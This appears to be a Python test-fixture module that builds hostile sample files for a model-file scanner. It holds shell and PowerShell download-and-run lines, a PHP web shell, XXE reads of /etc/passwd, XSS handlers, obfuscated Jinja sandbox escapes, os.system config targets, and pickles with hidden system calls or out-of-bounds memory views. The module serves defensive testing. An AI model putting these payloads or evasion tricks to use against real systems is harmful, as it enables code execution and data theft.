"""What lies beside weights and acts: scripts, notebooks, pages, names of code, trusted layouts."""

# Tables: one technique a line, whatever its length.
# ruff: noqa: E501

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Iterator
from typing import Any

from tests.builders import pickles as p
from tests.builders import wire, zips
from tests.builders.gadgets import PY, SH, Build, Technique, call, glob, pickled, system

Case = tuple[str, str, bytes, str, str]

_ACT = f"import os\nos.system('{SH}')\n"


def techniques() -> Iterator[Technique]:
    """All of them."""
    for family, name, data, file, loader in (
        *_scripts(), *_notebooks(), *_pages(), *_named(), *_templates(), *_long_lines(), *_trusted(),
        *_misnamed(),
    ):  # fmt: skip
        yield Technique(
            name=name, family=family, data=data, file=file, loader=loader, runs=bool(loader)
        )


def _scripts() -> Iterator[Case]:
    family = "script"
    for file in ("install.sh", "RUN.BASH", "setup.command", ".envrc", ".bashrc"):
        yield family, f"shell by its name, {file}", f"{SH}\n".encode(), file, "shell"
    for file, text in (
        ("run.ps1", "iex (iwr http://example.invalid)"), ("a.bat", "@echo off\r\ndel x"),
        ("a.js", "x = `id`"), ("a.php", "<?php system('id'); ?>"), ("a.lua", "os.execute('id')"),
        ("a.R", "system('id')"), ("a.jl", "run(`id`)"), ("a.vbs", "CreateObject(\"x\").Run 1"),
        ("a.desktop", "[Desktop Entry]\nExec=sh -c id"), ("a.cu", "int main() { return 0; }"),
        ("Makefile", "all:\n\tid"), ("Dockerfile", "FROM x\nRUN id"),
        ("CMakeLists.txt", "execute_process(COMMAND id)"), ("Jenkinsfile", "sh 'id'"),
    ):  # fmt: skip
        yield family, f"program by its name, {file}", text.encode(), file, ""
    latin = b"# -*- coding: latin-1 -*-\n# "
    yield family, "source in Latin-1", latin + b"\xe9\n" + _ACT.encode(), "a.py", "python"
    yield (
        family,
        "source in much Latin-1",
        latin + b"\xe9" * 200_000 + b"\n" + _ACT.encode() + b"#" * 900_000,
        "a.py",
        "python",
    )
    yield family, "source in UTF-7", b"# -*- coding: utf-7 -*-\n" + _ACT.encode(), "a.py", "python"
    yield family, "source past the limit", _ACT.encode() + b"#" * 16_100_000, "a.py", "python"
    yield family, "suffix in capitals", latin + b"\xe9\n" + _ACT.encode(), "A.PY", "python"
    for name, lines in (
        ("alone", ""), ("among folders", "/srv/some folder\n../src\n"), ("behind a comment", "# x\n"),
    ):  # fmt: skip
        line = f"import os; os.system('{SH}')\n"
        yield family, f"line that site runs, {name}", f"{lines}{line}".encode(), "x.pth", "site"


def _notebooks() -> Iterator[Case]:
    def made(*cells: Any, outputs: Any = ()) -> bytes:
        held = [{"cell_type": "code", "source": cell, "outputs": list(outputs)} for cell in cells]
        return json.dumps({"cells": held, "metadata": {}, "nbformat": 4}).encode()

    family, file = "notebook", "a.ipynb"
    yield family, "call", made(_ACT), file, "notebook"
    yield family, "lines", made(["import os\n", f"os.system('{SH}')"]), file, "notebook"
    yield family, "two cells", made("import os", f"os.system('{SH}')"), file, "notebook"
    yield family, "exec", made(f'exec("{PY}")'), file, "notebook"
    yield family, "command", made(f"!{SH}"), file, ""
    yield family, "magic", made(f"%%bash\n{SH}"), file, ""
    script = {"output_type": "display_data", "data": {"text/html": "<script>fetch('x')</script>"}}
    yield family, "output", made("1", outputs=[script]), file, ""
    yield (
        family,
        "output of JavaScript",
        made("1", outputs=[{"data": {"application/javascript": "x()"}}]),
        file,
        "",
    )


def _pages() -> Iterator[Case]:
    family = "page"
    for name, data, file in (
        ("HTML", b"<html><script>fetch('//example.invalid')</script>", "index.html"),
        ("handler", b"<img src=x onerror=alert(1)>", "index.html"),
        ("SVG", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "a.svg"),
        ("PHP", b"<?php system($_GET['x']); ?>", "README"),
        ("entity", b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><PMML>&a;</PMML>", "m.pmml"),
        ("entities", b"<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><x>&b;</x>", "m.xml"),
        ("PDF's script", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(x)>>>>endobj\n", "a.pdf"),
        ("PDF's program", b"%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/F(x)>>>>endobj\n", "a.pdf"),
        ("Arrow's type", b"PAR1arrow.py_extension_type" + base64.b64encode(system()) + b"PAR1", "a.parquet"),
        ("R's data", b"A\n3\n262656\n197888\n238\n", "a.rds"),
        ("film that is none", b":;:\nftypx; : >fired\0\n", "a.mp4"),
        ("font that is none", b"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0" + bytes(30), "a.ttf"),
    ):  # fmt: skip
        yield family, name, data, file, ""
    end = bytes(4) + b"IEND" + bytes(4)
    picture = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(17) + end
    for name, data in (
        ("script", f"#!/bin/sh\n{SH}\n".encode()), ("ELF", b"\x7fELF\x02\x01\x01" + bytes(99)),
        ("pickle of elsewhere", pickled(call("elsewhere:run", "x"))), ("RAR", b"Rar!\x1a\x07\0" + bytes(60)),
    ):  # fmt: skip
        yield family, f"{name} behind a picture", picture + data, "logo.png", ""


def _named() -> Iterator[Case]:
    family = "named-code"
    handlers = {"version": 1, "handlers": {"h": {"()": "os.system", "command": SH}}}
    yield family, "logging", json.dumps(handlers).encode(), "logging.json", "logging"
    for name, values in (
        ("target", {"model": {"target": "os.system", "params": {"command": "id"}}}),
        ("class path", {"model": {"class_path": "subprocess.Popen", "init_args": {}}}),
        ("entry point", {"entry": "os:system"}), ("function", {"func": "builtins.eval"}),
        ("module and class", {"module": "os", "class": "system"}),
        ("module and function", {"module_name": "subprocess", "function": "call"}),
        ("adapter's library", {"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}),
        ("router's types", {"types": {"query": "elsewhere.Module"}, "structure": {}}),
        ("activation", {"activation_fn": "elsewhere.module.Function"}),
        ("remote code", {"model_args": {"trust_remote_code": True}}),
        ("library of operators", {"session_options": {"custom_ops_library": "x.so"}}),
        ("class of .NET", {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}),
        ("class of Java", {"@class": "javax.script.ScriptEngineManager"}),
        ("jsonpickle's function", {"py/function": "os.system"}),
        ("object to construct", {"lc": 1, "type": "constructor", "id": ["x"]}),
        ("Lambda without a class", {"layers": [{"class_name": None, "config": {"function": "4wEA", "function_type": "lambda"}, "function": "4wEA", "function_type": "lambda"}]}),
        ("file of a vocabulary", {"class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}),
        ("template of another key", {"prompt": {"x": "{{ lipsum.__globals__.os.system('id') }}"}}),
    ):  # fmt: skip
        yield family, name, json.dumps(values).encode(), "config.json", ""
    yield family, "lines", b'{"auto_map": {"AutoModel": "a.B"}}\n{}\n', "config.json", ""
    yield family, "no UTF-8", b'{"x": "\xe9", "auto_map": {"AutoModel": "a.B"}}', "config.json", ""
    for name, text in (
        ("target", "model:\n  target: os.system\n"), ("class path", "x:\n  class_path: subprocess.Popen\n"),
        ("key by an alias", "k: &k _target_\nx:\n  *k : os.system\n"),
        ("loader's module", "flavors:\n  python_function:\n    loader_module: elsewhere\n"),
        ("logging", "handlers:\n  h:\n    (): os.system\n"), ("remote code", "trust_remote_code: true\n"),
        ("template", "chat_template: \"{{ lipsum.__globals__.os.system('id') }}\"\n"),
    ):  # fmt: skip
        yield family, f"{name}, YAML", text.encode(), "config.yaml", ""
    node = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}
    yield family, "skops", zips.plain({"schema.json": json.dumps(node).encode()}), "m.skops", ""
    component = {"unet": ["elsewhere", "Model", {"repo": "x/y"}]}
    yield family, "modular pipeline", json.dumps(component).encode(), "modular_model_index.json", ""
    for operator in ("PyOp", "PythonOp", "EPContext"):
        graph = wire.chunk(1, wire.chunk(4, operator) + wire.chunk(7, "com.microsoft"))
        model = wire.number(1, 8) + wire.chunk(7, graph + wire.chunk(2, "g"))
        yield (
            family,
            f"operator {operator}",
            model + wire.chunk(8, wire.number(2, 17)),
            "m.onnx",
            "",
        )


def _templates() -> Iterator[Case]:
    run = f"['os'].system('{SH}') }}}}"
    pieces = "{% set i = dict(__in=1, it__=2)|join %}{% set g = dict(__glo=1, bals__=2)|join %}"
    letters = "{% set ns = namespace(i='', g='') %}" + "".join(
        f"{{% for c in {list(name)} %}}{{% set ns.{key} = ns.{key} ~ c %}}{{% endfor %}}"
        for key, name in (("i", "__init__"), ("g", "__globals__"))
    )
    blocks = "{% set i %}_{{ '_' }}init__{% endset %}{% set g %}_{{ '_' }}globals__{% endset %}"
    swapped = "'AA{}AA'.translate({{65: 95}})"
    counted = f"{{% set u = 'x_y'.partition('x')[2][:1] %}}{{{{ namespace[u~u~'init'~u~u][u~u~'globals'~u~u]{run}"
    for name, source in (
        ("keys of a dict", pieces + "{{ namespace[i][g]" + run),
        ("letters in a loop", letters + "{{ namespace[ns.i][ns.g]" + run),
        ("blocks", blocks + "{{ namespace[i][g]" + run),
        ("translated", "{{ namespace[" + swapped.format("init") + "][" + swapped.format("globals") + "]" + run),
        ("part of a text", counted),
    ):  # fmt: skip
        yield "template", f"{name}, assembled", source.encode(), "chat_template.jinja", "jinja"


def _long_lines() -> Iterator[Case]:
    """Text pickles whose first line is longer than is kept."""
    act = f"0cposix\nsystem\n(S'{SH}'\ntR.".encode()
    for name, line in (
        ("text", b"V" + b"x" * 100_000), ("bytes", b"S'" + b"x" * 100_000 + b"'"),
        ("float", b"F1." + b"0" * 100_000), ("number", b"I" + b"0" * 100_000 + b"1"),
    ):  # fmt: skip
        yield "long-line", name, line + b"\n" + act, "notes", "pickle-c"
    yield (
        "long-line",
        "callee of elsewhere",
        b"V" + b"x" * 100_000 + b"\n0celsewhere\nrun\n(tR.",
        "notes",
        "",
    )


def _dtype(name: str, *state: Any, copied: bool = True) -> Any:
    return Build(call("numpy:dtype", name, False, copied), (3, "|", *state))


def _array(of: Any, shape: Any = (1,), data: Any = b"A" * 8) -> Any:
    empty = call("numpy._core.multiarray:_reconstruct", glob("numpy:ndarray"), (0,), b"b")
    return Build(empty, (1, shape, of, False, data))


def _torch(
    size: tuple[int, ...], stride: tuple[int, ...], offset: int = 0, *, held: bool = True
) -> bytes:
    def row(values: tuple[int, ...]) -> bytes:
        return b"(" + b"".join(map(p.integer, values)) + b"t"

    storage = (
        b"(" + p.text("storage") + p.glob("torch", "FloatStorage") + p.text("0") + p.text("cpu")
    )
    hooks = p.glob("collections", "OrderedDict") + b")R"
    tensor = p.glob("torch._utils", "_rebuild_tensor_v2") + b"(" + storage + p.integer(4) + b"tQ"
    code = tensor + p.integer(offset) + row(size) + row(stride) + b"\x89" + hooks + b"tR"
    members = {"a/data.pkl": p.program(code, protocol=2), "a/version": b"3\n"}
    return zips.plain(members | ({"a/data/0": bytes(16)} if held else {}))


def _trusted() -> Iterator[Case]:
    """What loaders believe without checking: bytes as pointers, fields and views outside."""
    family = "on-trust"
    item = call("numpy:dtype", "O8", False, True)
    number = call("numpy:dtype", "f8", False, True)
    hidden = _dtype("V8", None, ("a",), {"a": (item, 0)}, 8, 1, 0)
    for name, value in (
        ("object that flags deny", _array(hidden)),
        ("object that flags deny, in a buffer", call("numpy._core.numeric:_frombuffer", b"A" * 8, hidden, (1,), "C")),
        ("object that flags deny, scalar", call("numpy._core.multiarray:scalar", hidden, b"A" * 8)),
        ("object in a part that flags deny", _array(_dtype("V8", (item, (1,)), None, None, 8, 1, 0))),
        ("type of objects without flags", _array(_dtype("O8", None, None, None, -1, -1, 0))),
        ("numpy's own type", _array(_dtype("O8", None, None, None, -1, -1, 0, copied=False))),
        ("field before its element", _array(_dtype("V8", None, ("a",), {"a": (number, -4096)}, 8, 1, 16))),
        ("field behind its element", _array(_dtype("V8", None, ("a",), {"a": (number, 4096)}, 8, 1, 16))),
        ("more objects than the list", _array(item, (1000,), [1])),
        ("fraction of all memory", call("fractions:Fraction", "1e1000000000")),
        ("element of all memory", call("numpy:void", 1 << 31)),
        ("array of all memory", call("numpy._core.multiarray:_reconstruct", glob("numpy:ndarray"), (1 << 40,), b"b")),
        ("codec by its name", call("builtins:str", b"x", "elsewhere")),
        ("zone by a path", call("pandas._libs.tslibs.timestamps:_unpickle_timestamp", 0, None, "dateutil//etc/passwd", 10)),
    ):  # fmt: skip
        yield family, name, pickled(value), "model.pkl", ""
    for name, data in (
        ("view past its storage", _torch((400,), (1,))), ("view before its storage", _torch((4,), (1,), -4)),
        ("view that overflows", _torch((1 << 62, 4), (4, 1))), ("negative stride", _torch((4,), (-1,))),
        ("storage that is not there", _torch((4,), (1,), held=False)),
    ):  # fmt: skip
        yield family, name, data, "model.pt", ""
    for name, size, kind in (("tensor past the end", 1000, 0), ("tensor of no type", 4, 250)):
        tensor = struct.pack("<Q", 1) + b"w" + struct.pack("<IQIQ", 1, size, kind, 0)
        yield (
            family,
            name,
            b"GGUF" + struct.pack("<IQQ", 3, 1, 0) + tensor + bytes(64),
            "m.gguf",
            "",
        )


def _misnamed() -> Iterator[Case]:
    """Text, or nothing, where weights or a document should be; names that do not show."""
    for file in ("pytorch_model.bin", "model.safetensors", "model.gguf", "model.pkl", "model.h5"):
        yield "misnamed", f"text, {file}", f"{SH}\n".encode(), file, ""
    yield "misnamed", "nothing, model.pt", b"", "model.pt", ""
    for name in (
        "a\u200b.json",
        "\ufeffconfig.json",
        "a\u2028.json",
        "config.json.",
        "a\u00ad.json",
    ):
        yield "misnamed", name.encode("unicode_escape").decode(), b"{}", name, ""
